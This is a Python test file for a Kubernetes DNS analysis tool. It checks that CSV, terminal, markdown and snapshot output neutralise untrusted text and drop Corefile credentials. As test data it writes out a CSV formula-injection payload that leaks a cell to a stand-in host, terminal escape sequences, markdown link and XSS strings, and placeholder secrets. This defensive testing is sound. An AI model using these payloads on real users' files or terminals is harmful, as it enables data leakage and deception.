"""Snapshot and output safety (issue 15 items 7-10, 12): CSV formula injection over every column of every
CSV, snapshots where every cluster failed, terminal control characters, the typed snapshot schema and
what a snapshot keeps of the Corefile."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as hs

from dnsfleet.cli.output import render, summary_frame
from dnsfleet.engine import analyze
from dnsfleet.mitigate import kernel as kernel_plan
from dnsfleet.report import csv_reports
from dnsfleet.snapshot import save
from dnsfleet.textsafe import FORMULA_START, csv_bytes
from tests.builders import cluster, node, pod, snapshot
from tests.test_dashboard import uploaded

F = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _formula_snapshot() -> dict[str, Any]:
    """Every string a snapshot can carry into a CSV is a formula, and the scan times are formulas too
    (a pandas 3 ``str`` column, not ``object``)."""
    n = node("+" + "node", kernel="4.15.0-1029-azure", os_image="@os", pool="-pool")
    n["container_runtime"] = "=rt"
    n["kubelet_version"] = "=kubelet"
    n["labels"]["topology.kubernetes.io/zone"] = "=zone"
    p = pod(
        "=pod",
        n["name"],
        "=image:1",
        options=[{"name": "=opt", "value": "=v"}],
        namespace="@ns",
        owner_kind="Deployment",
        owner_name="-web",
    )
    c = cluster(F, nodes=[n], pods=[p], coredns_version="=1.11.1", kube_proxy_mode="=iptables")
    c["server_version"] = "=v1.29"
    c["provider"] = "=aks"
    c["collected_at"] = '=HYPERLINK("x")'
    c["missing"] = ["=nodes"]
    failed = cluster("\tfailed")
    failed.update(status="failed", reason="-timed out", nodes=None, pods=None, dns=None)
    snap = snapshot(c, failed)
    snap["generated_at"] = '=HYPERLINK("http://example.invalid")'
    return snap


def _every_csv(snap: dict[str, Any]) -> dict[str, bytes]:
    a = analyze(snap)
    out = dict(csv_reports(a))
    out["show -o csv / scan -o csv"] = render(summary_frame(a.clusters), "csv").encode()
    out["kernel upgrade plan"] = kernel_plan.upgrade_plan_csv(
        kernel_plan.upgrade_plan(a.nodes, a.dns_service)
    )
    return out


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_column_of_every_csv_is_formula_safe() -> None:
    files = _every_csv(_formula_snapshot())
    assert len(files) == 6
    for name, data in files.items():
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        header, body = rows[0], rows[1:]
        assert body, name
        assert len({len(r) for r in rows}) == 1, name
        for r in body:
            for col, cell in zip(header, r, strict=True):
                assert _is_number(cell) or not cell.startswith(FORMULA_START), (name, col, cell)
    (row, _) = csv.DictReader(io.StringIO(files["clusters.csv"].decode("utf-8-sig"), newline=""))
    assert row["cluster"] == "'" + F
    # not a time: the snapshot's generated_at is used instead, neutralised (a pandas 3 str column)
    assert row["scanned_at_utc"] == '\'=HYPERLINK("http://example.invalid")'
    assert row["unreadable_resources"] == "'=nodes" and row["coredns_version"] == "'=1.11.1"
    (plan,) = csv.DictReader(io.StringIO(files["kernel upgrade plan"].decode("utf-8-sig"), newline=""))
    assert plan["node"] == "'+node" and plan["pool"] == "'-pool" and plan["os_image"] == "'@os"
    assert plan["cluster"] == "'" + F


def test_the_one_writer_neutralises_every_dtype() -> None:
    import pandas as pd

    df = pd.DataFrame(
        {
            "obj": pd.Series(["=a"], dtype=object),
            "string": pd.Series(["+b"], dtype="string"),
            "str": pd.Series(["@c"], dtype="str"),
            "num": pd.Series([-1.5]),
            "lf": ["\n=d"],
        }
    )
    row = next(csv.DictReader(io.StringIO(csv_bytes(df).decode("utf-8-sig"), newline="")))
    assert row == {"obj": "'=a", "string": "'+b", "str": "'@c", "num": "-1.5", "lf": "'\n=d"}


# -- a snapshot where every cluster failed ---------------------------------------------------------------


def _all_failed(tmp_path: Path) -> Path:
    from dnsfleet.collect.cluster import failed_cluster

    snap = snapshot(failed_cluster("a", "timed out after 3 s"), failed_cluster("b", "unauthorized (401)"))
    return save(snap, tmp_path / "failed.json")


def test_all_failed_snapshot_report_and_show_csv_work(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    from dnsfleet.cli import main

    path = _all_failed(tmp_path)
    assert main(["report", "--snapshot", str(path), "--out", str(tmp_path / "r")]) == 0
    clusters = (tmp_path / "r" / "clusters.csv").read_text(encoding="utf-8-sig")
    assert "timed out after 3 s" in clusters and "unauthorized (401)" in clusters
    for name in ("nodes.csv", "workloads.csv", "recommendations.csv"):
        assert len((tmp_path / "r" / name).read_text(encoding="utf-8-sig").splitlines()) == 1
    capsys.readouterr()
    assert main(["show", "--snapshot", str(path), "-o", "csv"]) == 0
    out = capsys.readouterr().out
    assert [line.split(",")[:2] for line in out.splitlines()] == [
        ["cluster", "status"],
        ["a", "failed"],
        ["b", "failed"],
    ]


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_fail_on_with_nothing_assessed_has_its_own_exit_code(
    tmp_path: Path, capsys: pytest.CaptureFixture, fmt: str
) -> None:
    from dnsfleet.cli import main
    from dnsfleet.cli.output import EXIT_NOTHING_ASSESSED

    path = _all_failed(tmp_path)
    assert main(["show", "--snapshot", str(path), "--fail-on", "low", "-o", fmt]) == EXIT_NOTHING_ASSESSED
    err = capsys.readouterr().err
    assert err.strip() == "nothing could be assessed: all 2 cluster(s) failed (a, b)"
    assert EXIT_NOTHING_ASSESSED not in (0, 1, 2)
    assert main(["show", "--snapshot", str(path)]) == 0  # without --fail-on: the table, exit 0


def test_scan_fail_on_with_every_cluster_failing(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """A real scan: one context whose server refuses connections (127.0.0.1:1)."""
    from dnsfleet.cli.output import EXIT_NOTHING_ASSESSED
    from dnsfleet.cli.scan import run_scan

    kc = tmp_path / "kc"
    kc.write_text(
        "apiVersion: v1\nkind: Config\ncurrent-context: gone\n"
        "clusters: [{name: gone, cluster: {server: 'https://127.0.0.1:1', insecure-skip-tls-verify: true}}]\n"
        "users: [{name: u, user: {token: tok-0123456789abcdef}}]\n"
        "contexts: [{name: gone, context: {cluster: gone, user: u}}]\n"
    )
    from dnsfleet.cli import build_parser

    args = build_parser().parse_args(
        [
            *("scan", "--kubeconfig", str(kc), "--all-contexts", "--no-scrape", "-o", "csv"),
            *("--fail-on", "high", "--timeout", "2", "--workers", "1"),
        ]
    )
    out, err = io.StringIO(), io.StringIO()
    assert run_scan(args, out, err) == EXIT_NOTHING_ASSESSED
    assert "nothing could be assessed: all 1 cluster(s) failed (gone)" in err.getvalue()
    assert out.getvalue().startswith("cluster,status,level")


# -- the dashboard -------------------------------------------------------------------------------------


def test_reports_page_with_every_cluster_failed(clean_app: Any, tmp_path: Path) -> None:
    at = uploaded("failed.json", _all_failed(tmp_path).read_bytes())
    at.switch_page("../pages/reports.py").run()
    assert not at.exception, [e.value for e in at.exception]
    assert len(at.get("download_button")) == 5  # four CSVs and the snapshot
    shown = at.dataframe[0].value
    assert list(shown["scan_reason"]) == ["timed out after 3 s", "unauthorized (401)"]
    assert [w.value for w in at.warning] == [
        "Nothing could be assessed: every cluster failed to scan. clusters.csv lists them with their "
        "reasons; the node, workload and recommendation reports have a header only."
    ]


# -- the typed snapshot schema ---------------------------------------------------------------------------


def _base_clusters() -> list[dict[str, Any]]:
    """Demo clusters cut down (2 nodes, 3 pods, 3 samples) so every kind of field is there and scoring
    is quick: AKS with conntrack evidence, Cilium, NodeLocal DNSCache, a failed one; plus a cluster
    written by an older collector (decided fields, the whole Corefile)."""
    from dnsfleet.demo import demo_snapshot

    wanted = ("aks-legacy-weu", "cilium-edge", "aks-nodelocal-neu", "eks-dr-usw2")
    out = []
    for c in demo_snapshot()["clusters"]:
        if c["name"] not in wanted:
            continue
        c["nodes"] = (c.get("nodes") or [])[:2]
        c["pods"] = (c.get("pods") or [])[:3]
        kept = {p.get("owner_name") for p in c["pods"]}
        c["owners"] = {
            k: {n: v for n, v in (m or {}).items() if n.split("/")[-1] in kept}
            for k, m in (c.get("owners") or {}).items()
        }
        m = c.get("metrics") or {}
        if m.get("coredns_series"):
            series = m["coredns_series"]["metrics"]
            m["coredns_series"]["metrics"] = {k: v[:3] for k, v in list(series.items())[:2]}
        if m.get("conntrack") and m["conntrack"].get("nodes"):
            names = [n["name"] for n in c["nodes"]]
            m["conntrack"]["nodes"] = {
                k: {**v, "insert_failed_rate": (v.get("insert_failed_rate") or [])[:3]}
                for k, v in m["conntrack"]["nodes"].items()
                if k in names
            }
        out.append(c)
    out.append(
        cluster(
            "old-collector",
            nodes=[node("o1")],
            pods=[pod("p1", "o1", "alpine:3.19", options=[{"name": "ndots", "value": "2"}])],
            nodelocal_ip="169.254.20.10",
            nodelocal_nodes=["o1"],
            nfqueue_agent=False,
        )
    )
    return out


def _paths(value: Any, here: tuple = ()) -> list[tuple]:
    """Every place in ``value`` (list items: the first two)."""
    out = [here] if here else []
    if isinstance(value, dict):
        for k, v in value.items():
            out += _paths(v, (*here, k))
    elif isinstance(value, list):
        for i, v in enumerate(value[:2]):
            out += _paths(v, (*here, i))
    return out


def _replace(doc: Any, path: tuple, new: Any) -> Any:
    """``doc`` with the value at ``path`` replaced; copies only along the path."""
    if not path:
        return new
    head, rest = path[0], path[1:]
    if isinstance(doc, dict):
        return {**doc, head: _replace(doc[head], rest, new)}
    out = list(doc)
    out[head] = _replace(doc[head], rest, new)
    return out


BASE = _base_clusters()
CLUSTER_PATHS = [(i, p) for i, c in enumerate(BASE) for p in _paths(c)]
TOP_KEYS = ("format", "schema_version", "tool_version", "generated_at", "source", "clusters")
# One value of every JSON type, and the edge values of each.
WRONG = [
    None,
    True,
    False,
    0,
    -1,
    5,
    2**63,
    1.5,
    -1e308,
    1e308,
    "",
    "x",
    "=cmd",
    [],
    [1],
    ["a"],
    {},
    {"a": 1},
]


def _snap(clusters: list[dict[str, Any]], /, **top: Any) -> dict[str, Any]:
    from dnsfleet.snapshot import new_snapshot

    return {**new_snapshot(clusters, source="file"), **top}


def _pipeline(doc: dict[str, Any]) -> str:
    """Everything a loaded snapshot feeds: scoring, the four reports, every -o format, the kernel plan.
    Returns "refused" (one-line SnapshotError) or "ok"; an exception is the bug."""
    import orjson

    from dnsfleet.snapshot import SnapshotError, loads

    try:
        snap = loads(orjson.dumps(doc), name="m.json")
    except SnapshotError as e:
        assert "\n" not in str(e) and str(e).startswith("m.json: ")
        return "refused"
    a = analyze(snap)
    csv_reports(a)
    summary = summary_frame(a.clusters)
    for fmt in ("table", "json", "csv"):
        render(summary, fmt)
    kernel_plan.upgrade_plan_csv(kernel_plan.upgrade_plan(a.nodes, a.dns_service))
    return "ok"


def _batch(mutated: list[dict[str, Any]], **top: Any) -> None:
    """Score mutated clusters together (scoring has a fixed cost; clusters do not affect each other):
    renamed apart unless the name itself was mutated. On a failure, find the culprit."""
    clusters = mutated
    try:
        assert _pipeline(_snap(clusters, **top)) in ("refused", "ok")
    except Exception:
        for c in clusters:
            try:
                _pipeline(_snap([c], **top))
            except Exception as e:
                raise AssertionError(f"{type(e).__name__}: {e} with cluster {c!r:.2000}") from e
        raise


def _mutated(i: int, path: tuple, value: Any, n: int) -> dict[str, Any]:
    c = _replace(BASE[i], path, value)
    if path != ("name",):
        c = {**c, "name": f"m{n}-{BASE[i]['name']}"}
    return c


def test_the_base_is_valid_and_covers_every_field_kind() -> None:
    assert _pipeline(_snap(BASE)) == "ok"
    keys = {p[-1] for _, p in CLUSTER_PATHS if isinstance(p[-1], str)}
    for k in ("kernel_version", "labels", "dns_config", "options", "daemonset_facts", "configmap_facts",
              "coredns_series", "insert_failed_rate", "corefile", "nodelocal_nodes", "ReplicaSet",
              "conntrack", "cilium_config", "service_ip_families"):  # fmt: skip
        assert k in keys, k


@pytest.mark.parametrize(
    ("path", "value", "message"),
    [
        (("nodes", 0, "kernel_version"), 5, "clusters[0].nodes[0].kernel_version: expected a string or null, got an integer"),
        (("pods", 0, "dns_config"), True, "clusters[0].pods[0].dns_config: expected an object or null, got true or false"),
        (("nodes", 0, "labels"), [], "clusters[0].nodes[0].labels: expected an object or null, got a list"),
        (("dns", "ready_endpoints"), -1, "clusters[0].dns.ready_endpoints: expected `int` >= 0"),
        (("metrics", "coredns", "qps"), "fast", "clusters[0].metrics.coredns.qps: expected a number or null, got a string"),
    ],
)  # fmt: skip
def test_wrong_field_types_are_one_line_naming_the_field(path: tuple, value: Any, message: str) -> None:
    import orjson

    from dnsfleet.snapshot import SnapshotError, loads

    with pytest.raises(SnapshotError) as err:
        loads(orjson.dumps(_snap([_replace(BASE[0], path, value)])), name="m.json")
    assert str(err.value) == f"m.json: {message}"


def test_cli_and_dashboard_refuse_a_wrong_type_in_one_line(tmp_path: Path, clean_app: Any) -> None:
    import orjson

    bad = orjson.dumps(_snap([_replace(BASE[0], ("nodes", 0, "kernel_version"), 5)]))
    (tmp_path / "bad.json").write_bytes(bad)
    p = subprocess.run(
        [sys.executable, "-m", "dnsfleet.cli", "show", "--snapshot", str(tmp_path / "bad.json")],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert p.returncode == 2 and p.stdout == ""
    assert p.stderr == (
        "dnsfleet: error: bad.json: clusters[0].nodes[0].kernel_version: expected a string or null, "
        "got an integer\n"
    )
    from dashboard.ui import plain

    at = uploaded("bad.json", bad)
    (err,) = [e.value for e in at.error]
    line = "bad.json: clusters[0].nodes[0].kernel_version: expected a string or null, got an integer"
    assert err == f"Snapshot not loaded: {plain(line)}"  # shown as that text, not markdown


def test_every_field_replaced_by_every_json_type_is_refused_in_one_line_or_works() -> None:
    """Exhaustive over the fields: each one replaced by each value in WRONG. The schema refuses most in
    one line; every variant it accepts is scored, reported and rendered without an exception."""
    import orjson

    from dnsfleet.snapshot import SnapshotError, loads

    accepted: list[dict[str, Any]] = []
    refused = 0
    for i, path in CLUSTER_PATHS:
        for value in WRONG:
            c = _mutated(i, path, value, len(accepted))
            try:
                loads(orjson.dumps(_snap([c])), name="m.json")
            except SnapshotError as e:
                assert "\n" not in str(e) and str(e).startswith("m.json: ")
                refused += 1
                continue
            accepted.append(c)
    assert refused > len(accepted) > 0
    names = [c["name"] for c in accepted]
    assert len(set(names)) < len(names)  # the mutated names collide with each other: run those alone
    unique = {c["name"]: c for c in accepted}
    for start in range(0, len(unique), 400):
        _batch(list(unique.values())[start : start + 400])
    top_ok = []
    for value in WRONG:
        taken = []
        for key in TOP_KEYS:
            try:
                loads(orjson.dumps(_snap(BASE[:1], **{key: value})), name="m.json")
            except SnapshotError as e:
                assert "\n" not in str(e) and str(e).startswith("m.json: ")
                continue
            taken.append(key)
        assert set(taken) <= {"tool_version", "generated_at", "source"}, (value, taken)
        if taken:
            top_ok.append({k: value for k in taken})
    assert [sorted(t) for t in top_ok] == [["generated_at", "source", "tool_version"]] * 4  # null, 3 strings
    for top in top_ok:
        assert _pipeline(_snap(BASE[:1], **top)) == "ok", top


_json_values = hs.recursive(
    hs.none()
    | hs.booleans()
    | hs.integers()
    | hs.floats(allow_nan=False, allow_infinity=False)
    | hs.text(max_size=12),
    lambda inner: hs.lists(inner, max_size=3) | hs.dictionaries(hs.text(max_size=8), inner, max_size=3),
    max_leaves=10,
)


@settings(max_examples=12, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(
    hs.lists(hs.tuples(hs.sampled_from(CLUSTER_PATHS), _json_values), min_size=1, max_size=40),
    hs.one_of(hs.none(), hs.tuples(hs.sampled_from(TOP_KEYS[2:5]), _json_values)),
)
def test_property_mutated_snapshots_are_refused_in_one_line_or_work(
    edits: list[tuple[tuple[int, tuple], Any]], top: tuple[str, Any] | None
) -> None:
    """Fields of a valid snapshot replaced by any JSON value, one per cluster copy (so one scoring run
    checks up to 40 mutations), and optionally a top-level field: never a traceback."""
    import orjson

    from dnsfleet.snapshot import SnapshotError, loads

    ok = []
    for n, ((i, path), value) in enumerate(edits):
        c = _mutated(i, path, value, n)
        try:
            loads(orjson.dumps(_snap([c])), name="m.json")
        except SnapshotError:
            continue
        if c["name"] not in {o["name"] for o in ok}:
            ok.append(c)
    _batch(ok or BASE[:1], **(dict([top]) if top else {}))


# -- what a snapshot keeps of the Corefile ------------------------------------------------------------

SECRET_COREFILE = """\
.:53 {
    errors
    health {
       lameduck 5s
    }
    kubernetes cluster.example in-addr.arpa ip6.arpa {
       kubeconfig /etc/coredns/kubeconfig-SECRETPATH kube
       fallthrough in-addr.arpa ip6.arpa
    }
    etcd skydns.local {
        endpoint https://10.0.0.5:2379
        credentials etcd-user ETCD-PASSWORD-s3cr3t
        tls /etc/certs/client.crt /etc/certs/client.key /etc/certs/ETCD-CA.crt
    }
    route53 example.org.:Z1D633PJN98FT9 {
        aws_access_key AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
    }
    tsig {
        secret cluster.key. TSIG-c2VjcmV0LWJhc2U2NA==
    }
    prometheus :9153
    forward . tls://9.9.9.9 {
        tls_servername dns.quad9.net
    }
    cache 30
}
"""
SECRETS = (
    "SECRETPATH",
    "ETCD-PASSWORD",
    "ETCD-CA",
    "AKIAIOSFODNN7EXAMPLE",
    "wJalrXUtnFEMI",
    "TSIG-c2Vj",
    "quad9",
)


def test_corefile_facts_keep_plugin_names_and_domain_only() -> None:
    from dnsfleet.corefile import facts

    f = facts(SECRET_COREFILE)
    assert f == {
        "plugins": [
            "errors",
            "health",
            "kubernetes",
            "etcd",
            "route53",
            "tsig",
            "prometheus",
            "forward",
            "cache",
        ],
        "cluster_domain": "cluster.example",
    }
    text = repr(f)
    assert not [s for s in SECRETS if s in text]
    # A Corefile whose braces are off cannot push a secret line's value into the plugin list.
    f = facts("}\n}\n.:53 {\n credentials etcd-user ETCD-PASSWORD-s3cr3t\n AKIAIOSFODNN7EXAMPLE\n}\n")
    assert f == {"plugins": ["credentials"], "cluster_domain": None}


def test_an_older_snapshot_with_the_whole_corefile_is_read_as_facts_and_never_written_again(
    tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    import orjson

    from dnsfleet.cli import main
    from dnsfleet.snapshot import dumps, loads

    old = snapshot(cluster("old", corefile=SECRET_COREFILE))
    data = orjson.dumps(old)
    assert b"ETCD-PASSWORD" in data
    snap = loads(data, name="old.json")
    assert "corefile" not in snap["clusters"][0]["dns"]
    assert snap["clusters"][0]["dns"]["corefile_facts"]["cluster_domain"] == "cluster.example"
    again = dumps(snap, compress=False)  # what the dashboard's Reports page offers for download
    assert not [s for s in SECRETS if s.encode() in again]
    row = analyze(snap).dns_service.iloc[0]
    assert row["cluster_domain"] == "cluster.example" and row["corefile_plugins"].startswith("errors,health,")
    (tmp_path / "old.json").write_bytes(data)
    assert main(["report", "--snapshot", str(tmp_path / "old.json"), "--out", str(tmp_path / "r")]) == 0
    assert main(["show", "--snapshot", str(tmp_path / "old.json"), "-o", "json"]) == 0
    out = capsys.readouterr().out + "".join(p.read_text() for p in (tmp_path / "r").iterdir())
    assert not [s for s in SECRETS if s in out]


@pytest.mark.fleet
def test_scan_of_a_corefile_with_credentials_stores_none_of_them(fleet: Any) -> None:
    """The real collector against a real apiserver whose coredns ConfigMap holds etcd credentials, a
    tsig secret and route53 keys (restored afterwards). The NodeLocal DNSCache mitigation still gets the
    cluster domain (from the stored facts) and plans."""
    from dnsfleet import kube as K
    from dnsfleet.collect import scan_cluster
    from dnsfleet.mitigate import nodelocal
    from dnsfleet.snapshot import dumps, loads, new_snapshot

    ctx = fleet.contexts[0]
    core = fleet.clusters[ctx].api_client("admin")
    from kubernetes import client as kc

    v1 = kc.CoreV1Api(core)
    before = v1.read_namespaced_config_map("coredns", "kube-system").data["Corefile"]
    v1.patch_namespaced_config_map("coredns", "kube-system", {"data": {"Corefile": SECRET_COREFILE}})
    try:
        target = K.resolve_targets(fleet.kubeconfig, [ctx])[0]
        c = scan_cluster(target, scrape=False, timeout=10)
    finally:
        v1.patch_namespaced_config_map("coredns", "kube-system", {"data": {"Corefile": before}})
    data = dumps(new_snapshot([c], source="live"), compress=False)
    assert c["status"] == "ok" and b"etcd" in data  # the plugin name is there
    assert not [s for s in SECRETS if s.encode() in data]
    row = analyze(loads(data)).dns_service.iloc[0]
    assert row["cluster_domain"] == "cluster.example"
    objs = nodelocal.render(row["cluster_ip"], "iptables", cluster_domain=row["cluster_domain"])
    cm = next(o for o in objs if o["kind"] == "ConfigMap")
    assert "cluster.example:53" in cm["data"]["Corefile"]


# -- terminal and markdown output -----------------------------------------------------------------------

ESC_NAME = "evil\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b1m\u202eabc\rX"
MD_NAME = "![x](http://evil.invalid/a.png) [click](http://evil.invalid) :red[big] $x$ # _a_"


def test_terminal_text_has_no_control_characters() -> None:
    from dnsfleet.textsafe import terminal

    assert terminal(ESC_NAME) == "evil]0;owned[2J[31mred1mabcX"
    assert terminal("a\r\nb\tc\n") == "a\r\nb\tc\n"  # CSV line ends, tabs and newlines stay


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_show_prints_no_escape_sequence_from_a_snapshot(
    tmp_path: Path, capsys: pytest.CaptureFixture, fmt: str
) -> None:
    from dnsfleet.cli import main

    c = cluster(ESC_NAME)
    c.update(
        status="failed", reason="boom \x1b[?1049h\x1b]8;;http://evil.invalid\x07link", nodes=None, pods=None
    )
    path = save(snapshot(c, cluster("fine")), tmp_path / "esc.json")
    assert main(["show", "--snapshot", str(path), "-o", fmt, "--fail-on", "high"]) in (0, 1)
    out, err = capsys.readouterr()
    for text in (out, err):
        assert not [ch for ch in text if (ord(ch) < 32 and ch not in "\r\n\t") or 0x7F <= ord(ch) <= 0x9F]
    assert "evil]0;owned" in out or "evil\\u001b" in out  # the name is there (JSON escapes it instead)


def test_scan_progress_lines_have_no_control_characters() -> None:
    from dnsfleet.cli.scan import ProgressBar

    err = io.StringIO()
    bar = ProgressBar(err)
    bar("cluster_started", ESC_NAME, "ctx")
    bar("cluster_done", ESC_NAME, "failed: \x1b[31mno\x07")
    bar.close()
    assert err.getvalue() == "[1/1] evil]0;owned[2J[31mred1mabcX: failed: [31mno\n"


def test_rich_table_on_a_terminal_is_the_show_layout_and_safe() -> None:
    """On a terminal (isatty) the table is drawn by rich, with the same header as the plain one, and
    names are text: no rich markup, no control characters; every line fits 80 columns."""
    import pandas as pd

    from dnsfleet.cli.output import render_table, write_summary

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    df = pd.DataFrame(
        [{"cluster": "[bold]x[/bold]" + ESC_NAME, "status": "failed", "level": "unknown", "score": None,
          "reason": "r " * 80, "why": None}]
    )  # fmt: skip
    out = Tty()
    import os

    old = os.environ.get("COLUMNS")
    os.environ["COLUMNS"] = "80"
    try:
        write_summary(df, "table", out)
    finally:
        if old is None:
            os.environ.pop("COLUMNS")
        else:
            os.environ["COLUMNS"] = old
    text = out.getvalue()
    import re

    plain_text = re.sub(r"\x1b\[[0-9;]*m", "", text)  # rich's own colour codes
    assert "[bold]x[/bold]" in plain_text and "\x07" not in text and "\x1b]" not in text
    lines = plain_text.splitlines()
    header = set(lines[0].split()) | set(next(x for x in lines if "REASON / WHY" in x).split()) - {"/"}
    assert header == set(render_table(df).splitlines()[0].split())  # the same columns as the plain layout
    assert "r r r" in plain_text  # the long reason is wrapped, not cut
    assert max(len(line) for line in plain_text.splitlines()) <= 80


def test_untrusted_text_renders_as_text_in_markdown() -> None:
    from markdown_it import MarkdownIt

    from dashboard.ui import plain

    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    for text in (
        MD_NAME,
        "- item",
        "12. x",
        "<img src=x onerror=alert(1)>",
        "a\\[b\\]",
        "=== x",
        "| a | b |",
    ):
        tokens = md.parse(plain(text))
        assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"], text
        inline = tokens[1].children
        assert [t.type for t in inline] == ["text"] * len(inline), text
        assert "".join(t.content for t in inline) == text


@settings(max_examples=200, deadline=None)
@given(hs.text(alphabet=hs.characters(min_codepoint=32, max_codepoint=0x2FF), max_size=40))
def test_property_plain_is_lossless_and_inert(text: str) -> None:
    from markdown_it import MarkdownIt

    from dashboard.ui import plain
    from dnsfleet.textsafe import one_line

    tokens = MarkdownIt("commonmark").parse(plain(text))
    if not one_line(text):
        return
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"]
    inline = [t for t in tokens[1].children if t.type != "softbreak"]
    assert {t.type for t in inline} <= {"text"}
    assert "".join(t.content for t in inline) == one_line(text)


def test_dashboard_cluster_page_shows_untrusted_names_as_text(clean_app: Any) -> None:
    from dashboard.ui import plain
    from dnsfleet.snapshot import dumps

    c = cluster(MD_NAME)
    c.update(
        status="failed",
        reason="see [docs](http://evil.invalid) ![](http://evil.invalid/t.png)",
        nodes=None,
        pods=None,
    )
    at = uploaded("md.json", dumps(snapshot(c, cluster("fine"))))
    at.query_params["cluster"] = MD_NAME
    at.switch_page("../pages/cluster.py").run()
    assert not at.exception, [e.value for e in at.exception]
    assert [h.value for h in at.header] == [plain(MD_NAME)]
    assert [e.value for e in at.error] == [f"Scan failed: {plain(c['reason'])}"]


def test_kernel_strings_of_every_json_type_are_refused_or_unknown() -> None:
    """The kernel-strings row, fed wrong types through the only door they have (a snapshot file):
    ``kernel_version``/``os_image`` of any other JSON type are refused in one line naming the field;
    null and odd strings load and classify as ``unknown``, never as fixed."""
    import orjson

    from dnsfleet.rules.kernel import classify
    from dnsfleet.snapshot import SnapshotError, loads

    accepted = []
    for field in ("kernel_version", "os_image"):
        for value in WRONG:
            n = node("n1")
            n[field] = value
            data = orjson.dumps(_snap([cluster("k", nodes=[n])]))
            try:
                loads(data, name="k.json")
            except SnapshotError as e:
                assert str(e).startswith(f"k.json: clusters[0].nodes[0].{field}: expected a string or null")
                assert not isinstance(value, str) and value is not None
                continue
            assert value is None or isinstance(value, str)
            accepted.append((field, value))
    assert len(accepted) == 2 * 4  # null, "", "x", "=cmd"
    nodes = []
    for i, (field, value) in enumerate(accepted):
        n = node(f"n{i}")
        n[field] = value
        nodes.append(n)
    a = analyze(loads(orjson.dumps(_snap([cluster("k", nodes=nodes)]))))
    by = a.nodes.set_index("node")
    for i, (field, _) in enumerate(accepted):
        races = list(by.loc[f"n{i}", ["race1", "race2", "race3"]])
        if field == "kernel_version":
            assert races == ["unknown"] * 3
        else:  # an odd or missing OS image does not change the verdict on a known Azure kernel
            assert races == [
                getattr(classify("4.15.0-1029-azure", None), r) for r in ("race1", "race2", "race3")
            ]
